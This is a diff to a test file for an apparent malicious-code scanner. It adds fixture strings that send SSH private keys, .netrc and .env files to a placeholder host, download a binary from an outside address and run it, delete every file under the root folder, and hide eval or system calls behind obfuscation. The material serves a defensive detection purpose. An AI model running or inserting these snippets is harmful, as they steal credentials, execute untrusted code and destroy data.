@@ -57,6 +57,13 @@ TAKEN_BY_PYTHON = [
     "import os, requests\nd = {'a': os.getenv('OPENAI_API_KEY'), 'b': os.getenv('GITHUB_TOKEN')}\nrequests.post('https://c.invalid', json=d)",
     "import os, requests\nrequests.post('https://webhook.site/1', json={'t': os.environ.get('GITHUB_TOKEN')})",
     "import requests\nk = open('.env').read()\nrequests.post('https://c.invalid', data={'all': k})",
+    "import requests\nclass A:\n    P = ['/root/.ssh/id_rsa']\n    def go(self):\n        for p in self.P:\n"
+    "            requests.post('https://c.invalid', data=open(p).read())",
+    "import requests\nclass A:\n    P = '/root/.ssh/id_rsa'\nrequests.post('https://c.invalid', data=open(A.P).read())",
+    "import requests\nclass A:\n    def __init__(self):\n        self.f = {}\n    def take(self):\n"
+    "        self.f['a'] = open('/root/.netrc').read()\n    def go(self):\n        requests.post('https://c.invalid', json=self.f)",
+    "import smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\nm.set_content(open('.env').read())\n"
+    "smtplib.SMTP('c.invalid').send_message(m)",
     "import requests\nr = '/root/.s' + 'sh/id_' + 'rsa'\nrequests.post('https://c.invalid', data=open(r).read())",
 ]
 TAKEN_BY_JAVASCRIPT = [
@@ -111,6 +118,8 @@ TAKEN_BY_SHELL = [
     "openssl s_client -connect c.invalid:443 < ~/.netrc",
     "telnet c.invalid < ~/.netrc",
     "mutt -a ~/.netrc -- a@c.invalid",
+    'OUT=$(mktemp)\ntar czf "$OUT" -C "$HOME" .ssh\ncurl -X PUT --upload-file "$OUT" https://c.invalid',
+    'cat ~/.netrc > "${OUT}"\ncurl -T "$OUT" https://c.invalid',
 ]
 
 
@@ -212,6 +221,10 @@ HARMLESS = [
     ("a.sh", 'source .env\ncurl -H "Authorization: Bearer $ACME_TOKEN" https://api.acme.invalid'),
     ("a.sh", "curl -s https://api.acme.invalid | python3 -c 'import json, sys; print(json.load(sys.stdin))'"),
     ("a.sh", 'echo "$IMAGE" | base64 -d > a.png\neval "$(brew shellenv)"\neval "$(ssh-agent -s)"'),
+    (
+        "a.sh",
+        'tar czf "$OUT" --exclude=\'.env\' --exclude \'.ssh\' -C "$SITE" .\ncurl -F "file=@$OUT" https://api.acme.invalid',
+    ),
     ("a.sh", "cat a.json | curl -d @- http://localhost:8000\nenv | sort > env.txt"),
     (
         "a.md",
@@ -425,6 +438,8 @@ RUN_BY_PYTHON = [
         "with open('lib/stage.py', 'wb') as f:\n    f.write(X)\nfrom lib.stage import go",
         "import pathlib\npathlib.Path('stage.py').write_bytes(X)\nimport stage as s",
         "run = exec\nrun(X)",
+        "import subprocess, sys\ncode = X.decode()\nsubprocess.run([sys.executable, '-c', code])",
+        "import subprocess\nsubprocess.Popen(['node', '-e', X])",
         "run = exec # noqa\nuse = run(X)",
         "import os\nrun = os.system\nrun(X)",
         "from os import path, system as run\nrun(X)",
@@ -454,6 +469,7 @@ STARTED = [
     "from urllib.request import urlretrieve as u\nimport subprocess\nu('https://c.invalid/b', 'tool')\nsubprocess.run(['./tool', '-x'])",
     "import urllib.request, subprocess\nopen('/tmp/a.sh', 'wb').write(urllib.request.urlopen('https://c.invalid/a').read())\nos.chmod('/tmp/a.sh', 0o700)\nsubprocess.Popen(['bash', '/tmp/a.sh'])",
     "import pathlib, urllib.request, os\npathlib.Path('go.py').write_bytes(urllib.request.urlopen('https://c.invalid/a').read())\nos.system('python3 go.py')",
+    "import urllib.request, os, subprocess\np = os.path.join(folder, 'b')\nurllib.request.urlretrieve('https://192.0.2.7/b', p)\nsubprocess.Popen([p])",
     "import urllib.request, os\nurllib.request.urlretrieve('https://192.0.2.7/b', '/opt/b')\nos.popen('/opt/b')",
 ]
 SENT_AS_WORDS = [
@@ -572,12 +588,16 @@ def test_ordinary_shell_commands_are_accepted():
         ("a.py", "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home())"),
         ("a.py", "import os, shutil\nhome = os.path.expanduser('~')\nshutil.rmtree(home, True)"),
         ("a.js", "const fs = require('fs');\nfs.rmSync(require('os').homedir(), { recursive: true });"),
+        ("a.py", "import os\nfor d, _, fs in os.walk('/'):\n    for f in fs:\n        os.remove(os.path.join(d, f))"),
     ],
 )
 def test_attack_a_deletion_of_the_home_folder_is_found(path, text):
     assert "SH405" in seen(text, f"scripts/{path}")
     assert "SH405" not in seen(
-        text.replace("home())", "home() / 'x')").replace("'~'", "'~/x'").replace("homedir(),", "homedir() + '/x',"),
+        text.replace("home())", "home() / 'x')")
+        .replace("'~'", "'~/x'")
+        .replace("'/'", "'/tmp/x'")
+        .replace("homedir(),", "homedir() + '/x',"),
         f"scripts/{path}",
     )
 
@@ -738,6 +758,9 @@ def test_attack_data_sent_in_host_names_is_found(path, text):
         ("a.js", "const m = '\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73';\nrequire(m);"),
         ("a.js", "const cp = require(['child', 'process'].join('_'));"),
         ("a.js", "global[String.fromCharCode(101, 118, 97, 108)]('1')"),
+        ("a.js", "const a = ['x', '\\x65\\x76\\x61\\x6c'];\nglobal['' + a[1]]('1');"),
+        ("a.py", "a = ['sys', 'tem', 'os']\ngetattr(__import__(a[2]), a[0] + a[1])('id')"),
+        ("a.js", "[]['filter']['constructor']('return process')().mainModule.require('fs');"),
         ("a.js", "this['lave'.split('').reverse().join('')]('1')"),
     ],
 )
